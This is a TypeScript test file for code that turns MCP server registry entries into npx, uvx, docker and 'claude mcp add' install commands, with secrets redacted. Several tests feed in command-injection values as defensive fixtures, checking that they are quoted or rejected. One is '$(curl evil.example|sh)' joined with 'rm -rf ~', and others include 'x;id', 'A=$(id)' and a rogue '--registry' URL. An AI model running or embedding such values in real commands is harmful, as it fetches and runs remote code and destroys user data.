import { expect, test } from 'vitest'
import { configured, old, only, today } from './mcp-entries.ts'

test('an npm server of today can be started by npx, added to Claude and pasted into a configuration', () => {
  const skill = only(
    today({
      packages: [
        {
          registryType: 'npm',
          identifier: '@ada/tides',
          version: '1.0.2',
          transport: { type: 'stdio' },
          packageArguments: [{ type: 'named', name: '--harbour', value: 'West Pier' }],
          environmentVariables: [
            { name: 'TIDE_KEY', isSecret: true, default: 'hunter2' },
            { name: 'LEVEL', default: 'info' },
          ],
        },
      ],
    }),
  )
  expect(skill).toMatchObject({
    slug: 'tide-mcp',
    name: 'Tide MCP',
    author: 'ada',
    version: '1.0.2',
    runtimes: ['node'],
    supports: ['mcp'],
    license: 'Unknown',
  })
  expect(skill.install.cli).toBe(
    "TIDE_KEY=YOUR_TIDE_KEY LEVEL=info npx -y @ada/tides@1.0.2 --harbour 'West Pier'",
  )
  expect(skill.install.claude).toBe(
    "claude mcp add --env TIDE_KEY=YOUR_TIDE_KEY --env LEVEL=info --transport stdio tide-mcp -- npx -y @ada/tides@1.0.2 --harbour 'West Pier'",
  )
  expect(configured(skill)).toEqual({
    mcpServers: {
      'tide-mcp': {
        command: 'npx',
        args: ['-y', '@ada/tides@1.0.2', '--harbour', 'West Pier'],
        env: { TIDE_KEY: 'YOUR_TIDE_KEY', LEVEL: 'info' },
      },
    },
  })
  expect(skill.permissions).toEqual(['run-commands: npx @ada/tides@1.0.2', 'secrets: TIDE_KEY'])
  expect(JSON.stringify(skill)).not.toContain('hunter2')
})

test('the old shape of the registry gives the same commands', () => {
  const skill = only([
    old({
      packages: [
        {
          registry_name: 'pypi',
          name: 'tides',
          version: '0.3.0',
          package_arguments: [
            {
              type: 'named',
              name: '--directory /home/ada/tides',
              value: '--directory /home/ada/tides',
              is_required: true,
            },
            { type: 'positional', value: 'run' },
            { type: 'positional', value: 'tides' },
            { type: 'named', name: '--port 80', value: '--port 80', value_hint: '80' },
          ],
          environment_variables: [{ name: 'TIDE_TOKEN', description: 'abc123' }],
        },
      ],
    }),
  ])
  expect(skill.install.cli).toBe('TIDE_TOKEN=YOUR_TIDE_TOKEN uvx tides==0.3.0 --port 80')
  expect(skill).toMatchObject({ version: '0.3.0', runtimes: ['python'] })
})

test('a container of today is run from its image, one of the old shape from the line it tells', () => {
  const image = only(
    today({
      packages: [
        {
          registryType: 'oci',
          identifier: 'ghcr.io/ada/tides',
          version: '2.1',
          packageArguments: [{ type: 'positional', value: 'serve' }],
          environmentVariables: [{ name: 'API_KEY' }],
        },
      ],
    }),
  )
  expect(image.install.cli).toBe(
    'API_KEY=YOUR_API_KEY docker run -i --rm -e API_KEY ghcr.io/ada/tides:2.1 serve',
  )
  const words = ['-i', '--rm'].map((value) => ({ type: 'named', name: value, value }))
  const line = only(
    old({
      packages: [
        {
          registry_name: 'docker',
          name: '@ada/tides',
          version: '1',
          package_arguments: [
            ...words,
            { type: 'named', name: '-e DB_PASSWORD=geheim', value: '-e DB_PASSWORD=geheim' },
            { type: 'positional', value: 'ada/tides:latest' },
          ],
        },
      ],
    }),
  )
  expect(line.install.cli).toBe(
    'DB_PASSWORD=YOUR_DB_PASSWORD docker run -i --rm -e DB_PASSWORD ada/tides:latest',
  )
  expect(JSON.stringify(line)).not.toContain('geheim')
  expect(line.runtimes).toEqual([])
})

test('a remote server is added by its address, its secret header left to fill in', () => {
  const skill = only(
    today({
      remotes: [
        {
          type: 'streamable-http',
          url: 'https://tides.example/mcp',
          headers: [{ name: 'Authorization', value: 'Bearer abc', isSecret: true }],
        },
      ],
    }),
  )
  expect(skill.install).toEqual({
    cli: null,
    mcp: expect.any(String) as string,
    claude:
      "claude mcp add --header 'Authorization: Bearer YOUR_AUTHORIZATION' --transport http tide-mcp https://tides.example/mcp",
  })
  expect(configured(skill)).toEqual({
    mcpServers: {
      'tide-mcp': {
        type: 'http',
        url: 'https://tides.example/mcp',
        headers: { Authorization: 'Bearer YOUR_AUTHORIZATION' },
      },
    },
  })
  expect(skill.permissions).toContain('network: tides.example')
  expect(
    only(today({ remotes: [{ type: 'sse', url: 'http://tides.example/sse' }] })).riskNotes,
  ).toEqual(['unencrypted-address: http://tides.example/sse'])
  expect(
    only(today({ remotes: [{ type: 'sse', url: 'http://localhost:5000/sse' }] })).riskNotes,
  ).toEqual([])
})

test('nothing in an argument or a name can leave its quotes or pose as an option', () => {
  const evil = '$(curl evil.example|sh)`id`\'"; rm -rf ~ &'
  const skill = only(
    today({
      packages: [
        {
          registryType: 'npm',
          identifier: 'tides',
          version: '1',
          packageArguments: [{ type: 'positional', value: evil }],
        },
      ],
    }),
  )
  expect(skill.install.cli).toBe(
    String.raw`npx -y tides@1 '$(curl evil.example|sh)` + '`id`' + String.raw`'\''"; rm -rf ~ &'`,
  )
  for (const identifier of [
    '--registry=http://evil.example',
    'a b',
    'x;id',
    '../x',
    'https://evil.example/x.tgz',
  ]) {
    expect(
      only(today({ packages: [{ registryType: 'npm', identifier, version: '1' }] })).install,
    ).toEqual({ cli: null, mcp: null, claude: null })
  }
  expect(
    only(
      today({
        packages: [
          {
            registryType: 'npm',
            identifier: 'tides',
            packageArguments: [{ type: 'positional', value: 'two\nlines' }],
          },
        ],
      }),
    ).install.cli,
  ).toBeNull()
  expect(
    only(
      today({
        packages: [
          { registryType: 'npm', identifier: 'tides', environmentVariables: [{ name: 'A=$(id)' }] },
        ],
      }),
    ).install.cli,
  ).toBe('npx -y tides')
})

test('a password inside an address or behind a flag is not passed on', () => {
  const args = [
    { type: 'positional', value: 'mongodb://ada:geheim@db.example/x' },
    { type: 'named', name: '--api-key', value: 'geheim' },
    { type: 'named', name: '--token=geheim', value: '--token=geheim' },
  ]
  const skill = only(
    today({ packages: [{ registryType: 'npm', identifier: 'tides', packageArguments: args }] }),
  )
  expect(skill.install.cli).toBe(
    'npx -y tides mongodb://USER:PASSWORD@db.example/x --api-key YOUR_API_KEY --token=YOUR_TOKEN',
  )
})

test('a package of a registry that is not known gives no command', () => {
  expect(
    only(old({ packages: [{ registry_name: 'unknown', name: 'ada/tides', version: '' }] })),
  ).toMatchObject({ install: { cli: null, mcp: null, claude: null }, permissions: [] })
})

test('a value that a shell would take apart is set as it is, and its variable is still one', () => {
  const skill = only(
    today({
      packages: [
        {
          registryType: 'npm',
          identifier: 'tides',
          environmentVariables: [{ name: 'PLACE', default: 'West Pier $(id)' }],
        },
      ],
    }),
  )
  expect(skill.install.cli).toBe("PLACE='West Pier $(id)' npx -y tides")
})
